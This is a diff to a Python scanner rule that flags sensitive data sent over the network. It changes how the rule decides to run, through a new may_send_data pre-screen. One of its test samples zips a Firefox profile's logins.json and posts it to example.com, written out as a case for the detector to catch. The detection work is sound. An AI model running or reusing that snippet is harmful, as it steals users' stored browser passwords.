@@ -8,13 +8,13 @@ from datasec_scan.model import Category, Confidence, Severity
 from datasec_scan.rule import Example, Rule
 
 from ._outbound import (
-    NETWORK_TRIGGERS,
     RISK_TEXT,
     Analyzer,
     host_risk,
     known_provider,
     label_severity,
     label_text,
+    may_send_data,
     metadata_host,
     provider_hosts_match,
 )
@@ -87,7 +87,6 @@ class SensitiveDataToNetwork(Rule):
     confidence = Confidence.MEDIUM
     cwe = (200, 359)
     attack = ("T1041", "T1552")
-    triggers = NETWORK_TRIGGERS
     VALID = (
         "import os, requests\nrequests.get(os.environ['API_URL'] + '/health')\n",
         "import os, requests\nrequests.post(os.environ['TOKEN_URL'], data={'client_secret': os.environ['CLIENT_SECRET']})\n",
@@ -106,6 +105,12 @@ class SensitiveDataToNetwork(Rule):
          "    z.write(os.path.join(os.getenv('APPDATA'), 'Mozilla', 'Firefox', 'Profiles', 'x', 'logins.json'))\n"
          "requests.post('https://example.com/u', files={'f': open('b.zip', 'rb')})\n"),
     )
+
+    @classmethod
+    def triggered_by(cls, text: str) -> bool:
+        """Necessary for a report: a network call that can carry data (not only a connect or a DNS lookup), see
+        `_outbound`'s pre-screens."""
+        return may_send_data(text)
 
     def __init__(self, context) -> None:  # type: ignore[no-untyped-def]
         super().__init__(context)
